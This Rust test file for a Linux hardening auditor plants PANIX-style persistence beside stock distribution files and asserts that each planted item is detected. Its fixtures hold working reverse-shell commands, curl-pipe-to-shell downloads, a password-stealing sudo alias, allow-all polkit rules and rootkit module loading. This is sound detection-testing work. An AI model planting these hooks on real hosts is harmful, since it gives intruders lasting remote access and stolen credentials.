//! Boot, login, network, package-manager and kernel-module hooks (the PANIX modules and
//! Elastic's Linux persistence rules, see docs/persistence-coverage.md): each planted the way
//! the framework plants it, beside stock Debian/Ubuntu and RHEL/Rocky files of the same place
//! that must stay quiet.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use ferret_core::{Control, Finding, HostRoot, Severity};
use ferret_harden::{audit_root, Check, HardenOptions};
use std::path::Path;

use ferret_testkit::put as w;
use ferret_testkit::put_link as link;

const REVSHELL: &str = "nohup setsid bash -c 'bash -i >& /dev/tcp/10.10.10.10/1337 0>&1' & disown";

fn run(root: &Path) -> Vec<Finding> {
    let mut o = HardenOptions::default();
    o.checks = vec![Check::Persistence];
    let out = audit_root(&HostRoot::new(root).unwrap(), &o, &Control::new());
    assert!(out.errors.is_empty(), "{:?}", out.errors);
    out.findings
}

fn accounts(root: &Path) {
    w(
        root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    );
    std::fs::create_dir_all(root.join("root")).unwrap();
    std::fs::create_dir_all(root.join("home/alice")).unwrap();
}

/// Stock files of the same places: Debian 12 / Ubuntu 24.04 and RHEL/Rocky 9.
fn stock(root: &Path) {
    accounts(root);
    // SysV init: Debian's ssh script (excerpt) with its rc*.d links, Rocky's functions library.
    w(root, "/etc/init.d/ssh", "#! /bin/sh\nset -e\ntest -x /usr/sbin/sshd || exit 0\n( /usr/sbin/sshd -\\? 2>&1 | grep -q OpenSSH ) 2>/dev/null || exit 0\numask 022\nif test -f /etc/default/ssh; then\n    . /etc/default/ssh\nfi\n. /lib/lsb/init-functions\ncheck_privsep_dir() {\n    if [ ! -d /run/sshd ]; then\n\tmkdir /run/sshd\n\tchmod 0755 /run/sshd\n    fi\n}\ncase \"$1\" in\n  start)\n\tif start-stop-daemon --start --quiet --oknodo --chuid 0:0 --pidfile /run/sshd.pid --exec /usr/sbin/sshd -- $SSHD_OPTS; then\n\t    log_end_msg 0 || true\n\tfi\n\t;;\nesac\nexit 0\n");
    w(root, "/etc/init.d/procps", "#! /bin/sh\nPATH=/sbin:/bin\nSYSCTL=/sbin/sysctl\ntest -x $SYSCTL || exit 0\n. /lib/lsb/init-functions\ncase \"$1\" in\n       start|restart|force-reload)\n               $SYSCTL -q --system\n               ;;\nesac\nexit 0\n");
    link(root, "/etc/rc2.d/S01ssh", "../init.d/ssh");
    link(root, "/etc/rcS.d/S01procps", "../init.d/procps");
    w(
        root,
        "/etc/rc2.d/README",
        "The scripts in this directory are executed each time the system enters\nthis runlevel.\n",
    );
    w(root, "/etc/rc.d/init.d/functions", "# -*-Shell-script-*-\nTEXTDOMAIN=initscripts\numask 022\nPATH=\"/sbin:/usr/sbin:/bin:/usr/bin\"\nexport PATH\nif [ $PPID -ne 1 -a -z \"$SYSTEMCTL_SKIP_REDIRECT\" ] && [ -d /run/systemd/system ] ; then\n        case \"$0\" in\n        /etc/init.d/*|/etc/rc.d/init.d/*)\n            _use_systemctl=1\n            ;;\n        esac\nfi\n__pids_var_run() {\n    local base=${1##*/}\n    local pid_file=${2:-/var/run/$base.pid}\n    pid=\n}\n");
    w(root, "/etc/rc.d/init.d/README", "You are looking for the traditional init scripts in /etc/rc.d/init.d,\nand they are gone?\n");
    // Generators: Debian's postgresql-generator (a script).
    w(root, "/usr/lib/systemd/system-generators/postgresql-generator", "#!/bin/sh\nset -eu\ngendir=\"$1\"\nwantdir=\"$1/postgresql.service.wants\"\nbindir=\"/usr/lib/postgresql/\"\nmkdir -p \"$wantdir\"\nfor conf in /etc/postgresql/*/*/postgresql.conf; do\n    [ -e \"$conf\" ] || continue\n    ln -s /lib/systemd/system/postgresql@.service \"$wantdir/postgresql@$version-$cluster.service\"\ndone\nexit 0\n");
    w(
        root,
        "/usr/lib/systemd/system-generators/systemd-fstab-generator",
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0 /tmp/.x/run curl http://x | sh\n",
    );
    // motd: Debian's 10-uname, Ubuntu's 50-landscape-sysinfo and 91-release-upgrade.
    w(
        root,
        "/etc/update-motd.d/10-uname",
        "#!/bin/sh\nuname -snrvm\n",
    );
    w(root, "/etc/update-motd.d/50-landscape-sysinfo", "#!/bin/sh\n# pam_motd does not carry the environment\n[ -f /etc/default/locale ] && . /etc/default/locale\nexport LANG\ncores=$(grep -c ^processor /proc/cpuinfo 2>/dev/null)\n[ \"$cores\" -eq \"0\" ] && cores=1\nthreshold=\"${cores:-1}.0\"\nif [ $(echo \"`cut -f1 -d ' ' /proc/loadavg` < $threshold\" | bc) -eq 1 ]; then\n    echo\n    echo -n \"  System information as of \"\n    /bin/date\n    echo\n    /usr/bin/landscape-sysinfo\nfi\n");
    w(root, "/etc/update-motd.d/91-release-upgrade", "#!/bin/sh\n# if the current release is under development there won't be a new one\nif [ \"$(lsb_release -sd | cut -d' ' -f4)\" = \"(development\" ]; then\n    exit 0\nfi\nif [ -x /usr/lib/ubuntu-release-upgrader/release-upgrade-motd ]; then\n    exec /usr/lib/ubuntu-release-upgrader/release-upgrade-motd\nfi\n");
    // Network hooks: RHEL's 11-dhclient, Debian's 01-ifupdown, ifupdown's ethtool.
    w(root, "/etc/NetworkManager/dispatcher.d/11-dhclient", "#!/bin/bash\n# run dhclient.d scripts in an emulated environment\nPATH=/bin:/usr/bin:/sbin\nSAVEDIR=/var/lib/dhclient\nETCDIR=/etc/dhcp\ninterface=$1\neval \"$(\ndeclare | LC_ALL=C grep '^DHCP4_[A-Z_]*=' | while read -r opt; do\n    optname=${opt%%=*}\n    optname=${optname,,}\n    optname=new_${optname#dhcp4_}\n    optvalue=${opt#*=}\n    echo \"export $optname=$optvalue\"\ndone\n)\"\n");
    w(root, "/etc/NetworkManager/dispatcher.d/01-ifupdown", "#!/bin/sh -e\nif [ -z \"$1\" ]; then\n    echo \"$0: called with no interface\" 1>&2\n    exit 1;\nfi\nexport IFACE=\"$1\"\ncase \"$2\" in\n    up|vpn-up)\n        exec run-parts /etc/network/if-up.d\n        ;;\nesac\n");
    w(root, "/etc/network/if-up.d/ethtool", "#!/bin/sh\nETHTOOL=/sbin/ethtool\ntest -x $ETHTOOL || exit 0\n[ \"$IFACE\" != \"lo\" ] || exit 0\n");
    // XDG autostart and D-Bus services: Debian's.
    w(root, "/etc/xdg/autostart/at-spi-dbus-bus.desktop", "[Desktop Entry]\nType=Application\nName=AT-SPI D-Bus Bus\nExec=/usr/libexec/at-spi-bus-launcher --launch-immediately\nNoDisplay=true\n");
    w(root, "/etc/xdg/autostart/xdg-user-dirs.desktop", "[Desktop Entry]\nType=Application\nName=User folders update\nExec=xdg-user-dirs-update\nStartupNotify=false\nNoDisplay=true\n");
    w(root, "/usr/share/dbus-1/system-services/org.freedesktop.hostname1.service", "[D-BUS Service]\nName=org.freedesktop.hostname1\nExec=/bin/false\nUser=root\nSystemdService=dbus-org.freedesktop.hostname1.service\n");
    w(
        root,
        "/usr/share/dbus-1/services/ca.desrt.dconf.service",
        "[D-BUS Service]\nName=ca.desrt.dconf\nExec=/usr/libexec/dconf-service\n",
    );
    // logrotate: Debian's rsyslog and Rocky's syslog (postrotate scripts).
    w(root, "/etc/logrotate.d/rsyslog", "/var/log/syslog\n/var/log/mail.log\n{\n\trotate 4\n\tweekly\n\tmissingok\n\tsharedscripts\n\tpostrotate\n\t\t/usr/lib/rsyslog/rsyslog-rotate\n\tendscript\n}\n");
    w(root, "/etc/logrotate.d/syslog", "/var/log/cron\n/var/log/maillog\n/var/log/messages\n{\n    missingok\n    sharedscripts\n    postrotate\n        /usr/bin/systemctl -s HUP kill rsyslog.service >/dev/null 2>&1 || true\n    endscript\n}\n");
    w(
        root,
        "/etc/logrotate.conf",
        "weekly\nrotate 4\ncreate\ninclude /etc/logrotate.d\n",
    );
    // apt: Debian's 20packagekit, 70debconf, docker-clean; Ubuntu's 20apt-esm-hook.conf and
    // 99update-notifier.
    w(root, "/etc/apt/apt.conf.d/20packagekit", "// THIS FILE IS USED TO INFORM PACKAGEKIT THAT THE UPDATE-INFO MIGHT HAVE CHANGED\nDPkg::Post-Invoke {\n\"/usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && /usr/bin/test -S /var/run/dbus/system_bus_socket && /usr/bin/gdbus call --system --dest org.freedesktop.PackageKit --object-path /org/freedesktop/PackageKit --timeout 4 --method org.freedesktop.PackageKit.StateHasChanged cache-update > /dev/null; /bin/echo > /dev/null\";\n};\nAPT::Update::Post-Invoke-Success {\n\"/usr/bin/test -e /usr/share/dbus-1/system-services/org.freedesktop.PackageKit.service && /usr/bin/test -S /var/run/dbus/system_bus_socket && /usr/bin/gdbus call --system --dest org.freedesktop.PackageKit --object-path /org/freedesktop/PackageKit --timeout 4 --method org.freedesktop.PackageKit.StateHasChanged cache-update > /dev/null; /bin/echo > /dev/null\";\n};\n");
    w(root, "/etc/apt/apt.conf.d/70debconf", "// Pre-configure all packages with debconf before they are installed.\nDPkg::Pre-Install-Pkgs {\"/usr/sbin/dpkg-preconfigure --apt || true\";};\n");
    w(root, "/etc/apt/apt.conf.d/docker-clean", "# Since for most Docker users\nDPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };\nAPT::Update::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true\"; };\nDir::Cache::pkgcache \"\";\n");
    w(root, "/etc/apt/apt.conf.d/20apt-esm-hook.conf", "APT::Update::Pre-Invoke {\n\t\"[ ! -e /run/systemd/system ] || [ $(id -u) -ne 0 ] || systemctl start --no-block apt-news.service esm-cache.service || true\";\n};\nbinary::apt::AptCli::Hooks::Upgrade {\n\t\"[ ! -f /usr/lib/ubuntu-advantage/apt-esm-json-hook ] || /usr/lib/ubuntu-advantage/apt-esm-json-hook || true\";\n};\n");
    w(root, "/etc/apt/apt.conf.d/99update-notifier", "DPkg::Post-Invoke {\"if [ -d /var/lib/update-notifier ]; then touch /var/lib/update-notifier/dpkg-run-stamp; fi; /usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true\";};\nAPT::Update::Post-Invoke-Success {\"/usr/lib/update-notifier/update-motd-updates-available 2>/dev/null || true\";};\n");
    // dnf/yum plugins: Rocky 9 and CentOS 7 defaults.
    w(root, "/etc/dnf/plugins/copr.conf", "[main]\nenabled=1\n");
    w(
        root,
        "/etc/dnf/plugins/debuginfo-install.conf",
        "[main]\nenabled=1\nautoupdate=1\n",
    );
    w(
        root,
        "/etc/dnf/plugins/subscription-manager.conf",
        "[main]\nenabled=1\ndisable_system_repos=0\n",
    );
    w(
        root,
        "/etc/yum/pluginconf.d/fastestmirror.conf",
        "[main]\nenabled=1\nverbose=0\nalways_print_best_host = true\n",
    );
    w(
        root,
        "/etc/yum/pluginconf.d/langpacks.conf",
        "[main]\nenabled=1\nlangpack_locales = en_US.UTF-8\n",
    );
    // Kernel modules: Debian's /etc/modules (linked from modules-load.d), Rocky's firewalld
    // modprobe hook and a CIS-style blacklist.
    w(root, "/etc/modules", "# /etc/modules: kernel modules to load at boot time.\n#\n# This file contains the names of kernel modules that should be loaded\nloop\n");
    link(root, "/etc/modules-load.d/modules.conf", "../modules");
    w(
        root,
        "/usr/lib/modules-load.d/fwupd-msr.conf",
        "# load MSR module for fwupd\nmsr\n",
    );
    w(
        root,
        "/lib/modules/6.1.0-28-amd64/modules.dep",
        "kernel/drivers/block/loop.ko.xz:\nkernel/arch/x86/kernel/msr.ko.xz:\n",
    );
    w(
        root,
        "/lib/modules/6.1.0-28-amd64/modules.builtin",
        "kernel/fs/ext4/ext4.ko\n",
    );
    w(root, "/usr/lib/modprobe.d/firewalld-sysctls.conf", "install nf_conntrack /usr/sbin/modprobe --ignore-install nf_conntrack $CMDLINE_OPTS && /usr/sbin/sysctl --quiet --pattern 'net[.]netfilter[.]nf_conntrack.*' --system\n");
    w(
        root,
        "/etc/modprobe.d/cis.conf",
        "install cramfs /bin/false\ninstall usb-storage /bin/true\nblacklist usb-storage\n",
    );
    w(root, "/usr/lib/modprobe.d/systemd.conf", "# Make sure that the bonding module does not create bond0\noptions bonding max_bonds=0\noptions dummy numdummies=0\n");
    // ld.so.conf: Debian's.
    w(
        root,
        "/etc/ld.so.conf",
        "include /etc/ld.so.conf.d/*.conf\n",
    );
    w(
        root,
        "/etc/ld.so.conf.d/libc.conf",
        "# libc default configuration\n/usr/local/lib\n",
    );
    w(root, "/etc/ld.so.conf.d/x86_64-linux-gnu.conf", "# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n");
    w(
        root,
        "/etc/ld.so.conf.d/fakeroot-x86_64-linux-gnu.conf",
        "/usr/lib/x86_64-linux-gnu/libfakeroot\n",
    );
    // GRUB: Rocky's and Debian's defaults.
    w(root, "/etc/default/grub", "GRUB_TIMEOUT=5\nGRUB_DISTRIBUTOR=\"$(sed 's, release .*$,,g' /etc/system-release)\"\nGRUB_DEFAULT=saved\nGRUB_CMDLINE_LINUX=\"crashkernel=1G-4G:192M,4G-64G:256M,64G-:512M resume=/dev/mapper/rl-swap rd.lvm.lv=rl/root rd.lvm.lv=rl/swap rhgb quiet\"\nGRUB_ENABLE_BLSCFG=true\n");
    w(root, "/etc/default/grub.d/init-select.cfg", "# Debian's: pick systemd as init\nif [ \"${GRUB_DISABLE_LINUX_INIT_SELECT:-false}\" != true ]; then\n  GRUB_CMDLINE_LINUX_DEFAULT=\"$GRUB_CMDLINE_LINUX_DEFAULT init=/lib/systemd/systemd\"\nfi\n");
    // polkit: Ubuntu's admin rule, Rocky's default rule, a narrow pkla.
    w(root, "/usr/share/polkit-1/rules.d/50-default.rules", "polkit.addAdminRule(function(action, subject) {\n    return [\"unix-group:wheel\"];\n});\n");
    w(root, "/etc/polkit-1/rules.d/49-nopasswd_global.rules", "polkit.addRule(function(action, subject) {\n    if (subject.isInGroup(\"wheel\")) {\n        return polkit.Result.YES;\n    }\n});\n");
    w(root, "/etc/polkit-1/localauthority/50-local.d/10-network.pkla", "[Let netdev users manage networks]\nIdentity=unix-group:netdev\nAction=org.freedesktop.NetworkManager.*\nResultAny=yes\n");
    // Shell start-up and git: Ubuntu's skeleton .bashrc aliases, a usual gitconfig.
    w(root, "/home/alice/.bashrc", "alias ls='ls --color=auto'\nalias grep='grep --color=auto'\nalias alert='notify-send --urgency=low -i \"$([ $? = 0 ] && echo terminal || echo error)\" \"$(history|tail -n1|sed -e '\\''s/^\\s*[0-9]\\+\\s*//;s/[;&|]\\s*alert$//'\\'')\"'\nalias sudo='sudo '\n");
    w(
        root,
        "/home/alice/.gitconfig",
        "[user]\n\tname = Alice\n[core]\n\tpager = less -FRX\n\teditor = vim\n",
    );
    w(root, "/etc/ssh/sshrc", "if read proto cookie && [ -n \"$DISPLAY\" ]; then\n\techo add unix:$(echo $DISPLAY | cut -c11-) $proto $cookie | xauth -q -\nfi\n");
}

const HOOK_IDS: &[&str] = &[
    "persistence.init-script",
    "persistence.systemd-generator",
    "persistence.motd-script",
    "persistence.network-hook",
    "persistence.xdg-autostart",
    "persistence.dbus-service",
    "persistence.ssh-rc",
    "persistence.logrotate-script",
    "persistence.package-manager-hook",
    "persistence.package-manager-plugin",
    "persistence.module-rootkit",
    "persistence.module-unknown",
    "persistence.modprobe-install",
    "persistence.ld-so-conf",
    "persistence.grub-init",
    "persistence.polkit-allow-all",
    "persistence.git-config",
    "persistence.profile-alias-hijack",
];

#[test]
fn stock_hooks_are_quiet() {
    let t = tempfile::tempdir().unwrap();
    stock(t.path());
    let f = run(t.path());
    let loud: Vec<String> = f
        .iter()
        .filter(|f| f.severity >= Severity::Low)
        .map(|f| format!("{} {} {}", f.severity, f.id, f.subject))
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
}

/// (what, id, subject or evidence path fragment, minimum severity)
type Want = (&'static str, &'static str, &'static str, Severity);

fn check(f: &[Finding], wants: &[Want]) {
    let mut missed = Vec::new();
    for (what, id, subject, min) in wants {
        let hit = f.iter().find(|x| {
            x.id == *id
                && (x.subject.contains(subject)
                    || x.evidence.iter().any(|e| e.path.contains(subject)))
        });
        match hit {
            Some(x) if x.severity >= *min => {
                assert!(
                    !x.evidence.is_empty() && !x.attack.is_empty(),
                    "{what}: evidence and ATT&CK id"
                );
            }
            Some(x) => missed.push(format!("{what}: {} < {min}", x.severity)),
            None => missed.push(format!("{what}: no {id} on {subject}")),
        }
    }
    assert!(
        missed.is_empty(),
        "{missed:#?}\n{:#?}",
        f.iter()
            .map(|x| format!("{} {} {}", x.severity, x.id, x.subject))
            .collect::<Vec<_>>()
    );
    // One finding per subject and problem.
    let mut keys: Vec<(String, String)> = f
        .iter()
        .map(|x| (x.id.clone(), x.subject.clone()))
        .collect();
    let n = keys.len();
    keys.sort();
    keys.dedup();
    assert_eq!(keys.len(), n, "duplicate findings");
}

#[test]
fn panix_hooks_are_found() {
    use Severity::{Critical, High, Medium};
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    stock(r);
    // --initd, a custom init script in rpm's directory and an rc*.d link to a hidden program.
    w(r, "/etc/init.d/ssh-procps", &format!("#! /bin/sh\n### BEGIN INIT INFO\n# Provides: ssh-procps\n### END INIT INFO\n{REVSHELL}\n"));
    w(
        r,
        "/etc/rc.d/init.d/network-helper",
        "#!/bin/bash\n/var/tmp/.ICE-unix/kdevtmpfsi >/dev/null 2>&1 &\n",
    );
    link(r, "/etc/rc3.d/S99kworker", "/usr/lib/.kworker/kworker");
    // --generator
    w(r, "/usr/lib/systemd/system-generators/makecon", "#!/bin/bash\nnohup bash -c \"while :; do bash -i >& /dev/tcp/10.10.10.10/1337 0>&1; sleep 10; done\" &\n");
    // --motd
    w(
        r,
        "/etc/update-motd.d/137-python-upgrades",
        &format!("#!/bin/sh\n{REVSHELL}\n"),
    );
    // --network-manager (and an ifupdown hook)
    w(
        r,
        "/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh",
        &format!("#!/bin/sh -e\nif [ -z \"$1\" ]; then\n    exit 1;\nfi\n{REVSHELL}\n"),
    );
    w(
        r,
        "/etc/network/if-up.d/upd",
        "#!/bin/sh\ncurl -fsSL http://198.51.100.7/i.sh | sh\n",
    );
    // --xdg (root and user variants: the payload is in the script Exec= names)
    w(
        r,
        "/etc/xdg/autostart/pkc12-register.desktop",
        "[Desktop Entry]\nType=Application\nExec=/etc/xdg/pkc12-register\nName=pkc12-register\n",
    );
    w(
        r,
        "/etc/xdg/pkc12-register",
        "#!/bin/bash\n/bin/bash -c 'sh -i >& /dev/tcp/10.10.10.10/1337 0>&1'\n",
    );
    w(r, "/home/alice/.config/autostart/user-dirs.desktop", "[Desktop Entry]\nType=Application\nExec=/home/alice/.config/autostart/.user-dirs\nName=user-dirs\n");
    // --dbus
    w(r, "/usr/share/dbus-1/system-services/org.panix.persistence.service", "[D-BUS Service]\nName=org.panix.persistence\nExec=/usr/local/bin/dbus-panix.sh\nUser=root\n");
    w(
        r,
        "/usr/local/bin/dbus-panix.sh",
        &format!("#!/bin/bash\n{REVSHELL}\n"),
    );
    // ~/.ssh/rc
    w(
        r,
        "/root/.ssh/rc",
        "echo aW1wb3J0IHNvY2tldA== | base64 -d | python3 &\n",
    );
    // logrotate postrotate
    w(r, "/etc/logrotate.d/nginx", "/var/log/nginx/*.log {\n daily\n postrotate\n  /dev/shm/.x/upd >/dev/null 2>&1 || true\n endscript\n}\n");
    // --package-manager: apt, yum and dnf
    w(r, "/etc/apt/apt.conf.d/01python-upgrades", "APT::Update::Pre-Invoke {\"(nohup setsid /bin/bash -c 'bash -i >& /dev/tcp/10.10.10.10/1337 0>&1' > /dev/null 2>&1 &) &\"};\n");
    w(
        r,
        "/etc/yum/pluginconf.d/yumcon.conf",
        "[main]\nenabled=1\n",
    );
    w(r, "/etc/dnf/plugins/dnfcon.conf", "[main]\nenabled=1\n");
    // --lkm / --rootkit: modules-load.d naming Diamorphine and a module depmod never saw,
    // and a modprobe install hook.
    w(r, "/etc/modules-load.d/diamorphine.conf", "diamorphine\n");
    w(r, "/usr/lib/modules-load.d/panix.conf", "panix\n");
    w(
        r,
        "/etc/modprobe.d/e1000.conf",
        "install e1000 /usr/local/share/.e/run.sh; /sbin/modprobe --ignore-install e1000\n",
    );
    w(
        r,
        "/etc/modprobe.d/pcspkr.conf",
        "install pcspkr curl -s http://198.51.100.7/k | bash\n",
    );
    // ld.so.conf.d adding a temporary directory
    w(r, "/etc/ld.so.conf.d/zz-local.conf", "/dev/shm/.lib\n");
    // --grub
    w(
        r,
        "/etc/default/grub.d/99-panix.cfg",
        "GRUB_CMDLINE_LINUX_DEFAULT=\"$GRUB_CMDLINE_LINUX_DEFAULT init=/grub-panix.sh\"\n",
    );
    w(
        r,
        "/grub-panix.sh",
        &format!("#!/bin/bash\n{REVSHELL}\nexec /sbin/init\n"),
    );
    // --polkit, both forms
    w(r, "/etc/polkit-1/localauthority/50-local.d/panix.pkla", "[Allow Everything]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\nResultInactive=yes\nResultActive=yes\n");
    w(
        r,
        "/etc/polkit-1/rules.d/99-panix.rules",
        "polkit.addRule(function(action, subject) {\n\treturn polkit.Result.YES;\n});\n",
    );
    // --git --pager
    w(r, "/home/alice/.gitconfig", "[core]\n        pager = nohup setsid /bin/bash -c 'bash -i >& /dev/tcp/10.10.10.10/1337 0>&1' > /dev/null 2>&1 & ${PAGER:-less}\n");
    // A fake sudo prompt in root's .bashrc.
    w(r, "/root/.bashrc", "alias sudo='echo -n \"[sudo] password for $USER: \";read -s pwd;echo \"$pwd\" >> /var/tmp/.p; echo \"$pwd\" | /usr/bin/sudo -S'\n");

    let f = run(r);
    check(
        &f,
        &[
            (
                "init.d reverse shell",
                "persistence.init-script",
                "/etc/init.d/ssh-procps",
                High,
            ),
            (
                "rc.d/init.d temp program",
                "persistence.init-script",
                "/etc/rc.d/init.d/network-helper",
                High,
            ),
            (
                "rc3.d link to a hidden program",
                "persistence.init-script",
                "/etc/rc3.d/S99kworker",
                High,
            ),
            (
                "generator reverse shell",
                "persistence.systemd-generator",
                "makecon",
                High,
            ),
            (
                "motd reverse shell",
                "persistence.motd-script",
                "137-python-upgrades",
                High,
            ),
            (
                "NM dispatcher reverse shell",
                "persistence.network-hook",
                "panix-dispatcher.sh",
                High,
            ),
            (
                "if-up.d curl|sh",
                "persistence.network-hook",
                "/etc/network/if-up.d/upd",
                High,
            ),
            (
                "XDG autostart script",
                "persistence.xdg-autostart",
                "pkc12-register.desktop",
                High,
            ),
            (
                "user XDG autostart hidden program",
                "persistence.xdg-autostart",
                "user-dirs.desktop",
                High,
            ),
            (
                "D-Bus service script",
                "persistence.dbus-service",
                "org.panix.persistence.service",
                High,
            ),
            (
                "~/.ssh/rc decode",
                "persistence.ssh-rc",
                "/root/.ssh/rc",
                High,
            ),
            (
                "logrotate postrotate from /dev/shm",
                "persistence.logrotate-script",
                "/etc/logrotate.d/nginx",
                High,
            ),
            (
                "apt Pre-Invoke reverse shell",
                "persistence.package-manager-hook",
                "01python-upgrades",
                High,
            ),
            (
                "yum plugin",
                "persistence.package-manager-plugin",
                "yumcon.conf",
                Medium,
            ),
            (
                "dnf plugin",
                "persistence.package-manager-plugin",
                "dnfcon.conf",
                Medium,
            ),
            (
                "Diamorphine in modules-load.d",
                "persistence.module-rootkit",
                "diamorphine",
                Critical,
            ),
            (
                "module not in modules.dep",
                "persistence.module-unknown",
                "panix",
                Medium,
            ),
            (
                "modprobe install hidden program",
                "persistence.modprobe-install",
                "/etc/modprobe.d/e1000.conf",
                Medium,
            ),
            (
                "modprobe install curl|bash",
                "persistence.modprobe-install",
                "/etc/modprobe.d/pcspkr.conf",
                High,
            ),
            (
                "ld.so.conf.d temp dir",
                "persistence.ld-so-conf",
                "/dev/shm/.lib",
                High,
            ),
            ("GRUB init=", "persistence.grub-init", "99-panix.cfg", High),
            (
                "polkit pkla allow all",
                "persistence.polkit-allow-all",
                "panix.pkla",
                Critical,
            ),
            (
                "polkit rules allow all",
                "persistence.polkit-allow-all",
                "99-panix.rules",
                Critical,
            ),
            (
                "git pager",
                "persistence.git-config",
                "/home/alice/.gitconfig",
                High,
            ),
            (
                "fake sudo alias",
                "persistence.profile-alias-hijack",
                "/root/.bashrc",
                High,
            ),
        ],
    );
    // The stock files beside them stay quiet.
    for stock in [
        "/etc/init.d/ssh",
        "/etc/update-motd.d/10-uname",
        "/etc/NetworkManager/dispatcher.d/11-dhclient",
        "/etc/apt/apt.conf.d/20packagekit",
        "/etc/dnf/plugins/copr.conf",
        "/usr/lib/modprobe.d/firewalld-sysctls.conf",
        "/usr/share/polkit-1/rules.d/50-default.rules",
        "/etc/xdg/autostart/at-spi-dbus-bus.desktop",
    ] {
        assert!(
            !f.iter()
                .any(|x| HOOK_IDS.contains(&x.id.as_str()) && x.subject == stock),
            "{stock}"
        );
    }
}

#[test]
fn uid0_alias_gives_one_finding_per_key() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    w(
        r,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nhilde:x:0:0::/root:/bin/bash\n",
    );
    w(
        r,
        "/root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl mdrfckr\n",
    );
    let f = run(r);
    let no_from: Vec<&Finding> = f
        .iter()
        .filter(|x| x.id == "persistence.authorized-keys-root-no-from")
        .collect();
    assert_eq!(no_from.len(), 1, "{no_from:#?}");
    assert!(
        no_from[0].subject.starts_with("root,hilde "),
        "{}",
        no_from[0].subject
    );
    let detail = no_from[0].detail.as_deref().unwrap_or_default();
    assert!(detail.contains("root, hilde"), "{detail}");
    let count: Vec<&Finding> = f
        .iter()
        .filter(|x| x.id == "persistence.authorized-keys-count")
        .collect();
    assert_eq!(count.len(), 1);
    assert_eq!(count[0].subject, "root,hilde");
}

/// Runs the real `setcap` on `root/<rel>`; the error says why it could not.
fn setcap(root: &Path, rel: &str, text: &str) -> Result<(), String> {
    let o = std::process::Command::new("setcap")
        .arg(text)
        .arg(root.join(rel.trim_start_matches('/')))
        .output()
        .map_err(|e| format!("setcap not runnable: {e}"))?;
    if o.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&o.stderr).trim().to_owned())
    }
}

/// PANIX `--cap` (`setcap cap_setuid+ep` on an interpreter) and a capability-carrying copy in a
/// temporary or home directory, beside the capabilities Debian, Ubuntu and Rocky ship (ping,
/// newuidmap, suexec, snap-confine...), which must stay quiet; the excerpts are what `getcap`
/// prints for the same files.
#[test]
fn capability_backdoors_and_stock_capabilities() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    accounts(r);
    let elf = "\x7fELF\x02\x01\x01\0";
    // Stock: (file, capabilities as the package sets them).
    let stock: &[(&str, &str)] = &[
        ("/usr/bin/ping", "cap_net_raw+ep"),                      // Debian 12 iputils-ping
        ("/usr/bin/arping", "cap_net_raw+p"),                     // Rocky 9 iputils
        ("/usr/bin/clockdiff", "cap_net_raw+p"),                  // Rocky 9 iputils
        ("/usr/bin/mtr-packet", "cap_net_raw+ep"),                // Debian mtr-tiny
        ("/usr/bin/newuidmap", "cap_setuid=ep"),                  // Rocky shadow-utils
        ("/usr/bin/newgidmap", "cap_setgid=ep"),                  // Rocky shadow-utils
        ("/usr/sbin/suexec", "cap_setgid,cap_setuid+ep"),         // Rocky httpd
        ("/usr/bin/dumpcap", "cap_net_admin,cap_net_raw=eip"),    // wireshark
        ("/usr/bin/gnome-keyring-daemon", "cap_ipc_lock+ep"),     // Debian gnome-keyring
        ("/usr/bin/kwin_wayland", "cap_sys_nice+ep"),             // Debian kwin-wayland
        (
            "/usr/lib/x86_64-linux-gnu/gstreamer1.0/gstreamer-1.0/gst-ptp-helper",
            "cap_net_bind_service,cap_net_admin+ep",
        ),
        (
            "/usr/lib/snapd/snap-confine",
            "cap_chown,cap_dac_override,cap_dac_read_search,cap_fowner,cap_sys_chroot,cap_sys_ptrace,cap_sys_admin=p",
        ), // Ubuntu snapd
    ];
    for (f, _) in stock {
        w(r, f, elf);
    }
    // Interpreters: python3.11 with python3 linking to it, perl with its versioned hard link,
    // Debian's vim.basic, and a node with a harmless capability.
    for f in [
        "/usr/bin/python3.11",
        "/usr/bin/perl",
        "/usr/bin/vim.basic",
        "/usr/local/bin/node",
    ] {
        w(r, f, elf);
    }
    link(r, "/usr/bin/python3", "python3.11");
    std::fs::hard_link(r.join("usr/bin/perl"), r.join("usr/bin/perl5.36.0")).unwrap();
    // Copies: python in a hidden directory under /tmp, a sniffer in alice's home, a script
    // without an execute bit (capabilities act on exec only: not opened).
    w(r, "/tmp/.x/python3", elf);
    w(r, "/home/alice/sniff", elf);
    w(r, "/home/alice/notes.txt", "text");
    let exec = |rel: &str| {
        use std::os::unix::fs::PermissionsExt;
        let p = r.join(rel.trim_start_matches('/'));
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    for (f, _) in stock {
        exec(f);
    }
    for f in [
        "/usr/bin/python3.11",
        "/usr/bin/perl",
        "/usr/bin/vim.basic",
        "/usr/local/bin/node",
        "/tmp/.x/python3",
        "/home/alice/sniff",
    ] {
        exec(f);
    }
    let planted: &[(&str, &str)] = &[
        ("/usr/bin/python3.11", "cap_setuid+ep"),
        ("/usr/bin/perl5.36.0", "cap_setuid,cap_setgid+ep"),
        ("/usr/bin/vim.basic", "cap_dac_override+ep"),
